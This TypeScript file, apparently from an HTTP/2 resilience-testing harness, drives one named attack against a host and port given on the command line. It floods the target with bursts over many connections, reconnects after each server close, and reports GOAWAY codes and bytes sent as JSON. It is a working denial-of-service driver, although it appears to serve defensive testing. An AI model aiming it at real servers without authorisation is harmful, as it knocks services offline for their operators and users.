// One attack as a separate process: `attacker.ts NAME HOST PORT SECONDS`. Prints the result as JSON.
import { type Socket, connect } from 'node:net';
import { FrameCutter, FrameType, PREFACE, settings } from '../wire.ts';
import { ATTACKS, type Attack } from './attacks.ts';

export interface AttackReport {
  /** Number of opened connections; more than the attack's number if the server has closed some. */
  readonly opened: number;
  readonly closedByServer: number;
  readonly refused: number;
  /** Error codes of the GOAWAY frames that were read. */
  readonly goaways: Readonly<Record<string, number>>;
  readonly bytesSent: number;
}

const RECONNECT_MS = 20;

const [name, host, port, seconds] = process.argv.slice(2);
const attack = ATTACKS.find((each) => each.name === name);
if (attack === undefined) throw new Error(`there is no attack named ${name}`);

const report = { opened: 0, closedByServer: 0, refused: 0, goaways: {} as Record<string, number>, bytesSent: 0 };
const sockets = new Set<Socket>();
let ended = false;
for (let each = 0; each < attack.connections; each += 1) openOne(attack);
setTimeout(
  () => {
    ended = true;
    for (const socket of sockets) socket.destroy();
    process.stdout.write(`${JSON.stringify(report satisfies AttackReport)}\n`);
  },
  Number(seconds) * 1_000,
);

function openOne(attack: Attack): void {
  if (ended) return;
  const socket = connect(Number(port), host);
  sockets.add(socket);
  socket.setNoDelay(true);
  let connected = false;
  let timer: NodeJS.Timeout | undefined;
  const begin = (): void => {
    connected = true;
    report.opened += 1;
    if (attack.hasPreface) socket.write(Buffer.concat([PREFACE, attack.begin ?? settings()]));
    let count = 0;
    const send = (): void => {
      while (!socket.destroyed) {
        const bytes = attack.burst(count++);
        report.bytesSent += bytes.length;
        const isRoom = bytes.length === 0 || socket.write(bytes);
        if (attack.pauseMs > 0) {
          timer = setTimeout(send, attack.pauseMs);
          return;
        }
        if (!isRoom) {
          socket.once('drain', send);
          return;
        }
      }
    };
    send();
  };
  const cutter = new FrameCutter();
  socket.on('connect', begin);
  if (attack.reads) socket.on('data', (chunk: Buffer) => countGoaways(cutter, chunk));
  socket.on('error', () => (report.refused += connected ? 0 : 1));
  socket.on('close', () => {
    clearTimeout(timer);
    sockets.delete(socket);
    if (ended) return;
    if (connected) report.closedByServer += 1;
    setTimeout(() => openOne(attack), RECONNECT_MS);
  });
}

function countGoaways(cutter: FrameCutter, chunk: Buffer): void {
  for (const { type, payload } of cutter.cut(chunk)) {
    if (type !== FrameType.GOAWAY) continue;
    const code = String(payload.readUInt32BE(4));
    report.goaways[code] = (report.goaways[code] ?? 0) + 1;
  }
}
